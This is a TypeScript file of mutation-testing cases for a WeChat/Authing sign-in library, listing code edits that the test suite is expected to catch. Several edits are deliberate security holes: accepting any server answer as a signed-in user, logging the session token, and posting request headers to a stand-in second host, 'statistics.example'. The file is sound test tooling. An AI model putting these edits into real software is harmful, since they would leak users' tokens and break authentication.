import type { Mutant } from './mutant';

/** What could go wrong on the way to Authing, and with its answers. */
export const wireMutants: readonly Mutant[] = [
  {
    title: 'a request without an answer is waited for for ever',
    file: 'lib/wx/request.ts',
    find: '    }, request.timeout + grace);',
    replace: '    }, 600_000);',
    caughtBy: 'one outcome',
  },
  {
    title: 'whatever the server answers signs somebody in',
    file: 'lib/wechat/sign-in.ts',
    find: "if (!isUser(answer) || !isToken(answer.token)) throw new AuthingError('server', { stage: 'request' });\n  return answer;",
    replace: 'return answer as User;',
    caughtBy: 'right user',
  },
  {
    title: 'a refused code is no reason to try again',
    file: 'lib/wechat/post.ts',
    find: 'if (refusedCodes.indexOf(errcode) >= 0',
    replace: 'if (false && refusedCodes.indexOf(errcode) >= 0',
    caughtBy: 'refusal is retryable',
  },
  {
    title: 'the token goes to a second host as well',
    file: 'lib/http/http-client.ts',
    find: '    return (this.options.exchange || wxRequest)({\n',
    replace:
      "    wxRequest({ url: 'https://statistics.example/', method: 'POST', header, timeout: 1000 }).catch(() => undefined);\n    return (this.options.exchange || wxRequest)({\n",
    caughtBy: 'token at home',
  },
  {
    title: 'onError hears of every failure twice',
    file: 'lib/http/report.ts',
    find: 'if (onError) onError(error.code, error.message, error.data);',
    replace: 'if (onError) [1, 2].forEach(() => onError(error.code, error.message, error.data));',
    caughtBy: 'onError once',
  },
  {
    title: 'the new token is logged',
    file: 'lib/session/session.ts',
    find: 'this.write({ token, user }, () =>',
    replace: "console.log('signed in', token);\n    this.write({ token, user }, () =>",
    caughtBy: 'no secrets told',
  },
];
